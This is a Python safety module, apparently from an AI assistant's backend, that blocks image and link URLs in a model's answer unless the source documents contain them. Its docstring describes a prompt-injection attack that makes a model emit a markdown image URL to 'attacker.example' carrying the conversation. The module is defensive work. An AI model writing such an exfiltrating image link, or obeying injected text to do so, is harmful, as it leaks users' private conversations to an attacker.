"""Addresses in a model answer that its source documents do not contain.

A rendered markdown image is fetched by the reader's client without a click, so an injected instruction can
make the model write `![](https://attacker.example/?q=<the conversation>)` and leak data. An answer may only
show images whose exact address is in its context, and links to addresses of the context (or, without a
query string, to a site the context links to).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from urllib.parse import urlsplit

from backend.safety.action_patterns import (
    HTML_IMAGE_RE,
    MARKDOWN_IMAGE_RE,
)

_URL_RE = re.compile(r"(?:\bhttps?://|(?<![\w.@/])www\.)[^\s<>\"'`\]\)|]{1,2000}", re.IGNORECASE)
_TRAILING = ".,;:!?*_'\"”’»"


@dataclass(frozen=True, slots=True)
class UrlCheck:
    """The first address of an answer that is not allowed."""

    url: str
    image: bool


@dataclass(frozen=True, slots=True)
class _Key:
    host: str
    path: str
    query: str


def _key(url: str) -> _Key | None:
    url = url.strip().strip("<>").rstrip(_TRAILING)
    if url.lower().startswith("www."):
        url = "http://" + url
    elif url.startswith("//"):
        url = "http:" + url
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").rstrip(".")
        port = parts.port
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not host:
        return None
    if port and port not in (80, 443):
        host = f"{host}:{port}"
    return _Key(host.lower(), parts.path.rstrip("/"), parts.query)


def _images(text: str) -> list[str]:
    return [m.group(1) for m in MARKDOWN_IMAGE_RE.finditer(text)] + [m.group(1) for m in HTML_IMAGE_RE.finditer(text)]


def check_urls(response: str, context_docs: list[str]) -> UrlCheck | None:
    """The first image or link in `response` that `context_docs` do not vouch for, else None."""
    allowed: set[_Key] = set()
    hosts: set[str] = set()
    for doc in context_docs:
        for url in [*_URL_RE.findall(doc), *_images(doc)]:
            if (key := _key(url)) is not None:
                allowed.add(key)
                hosts.add(key.host)
    image_keys: set[_Key] = set()
    for url in _images(response):
        key = _key(url)
        if key is None:
            continue  # relative paths and data: URIs fetch nothing from another site
        if key not in allowed:
            return UrlCheck(url, image=True)
        image_keys.add(key)
    for url in _URL_RE.findall(response):
        key = _key(url)
        if key is None or key in allowed or key in image_keys:
            continue
        if key.host in hosts and not key.query:
            continue
        return UrlCheck(url.rstrip(_TRAILING), image=False)
    return None
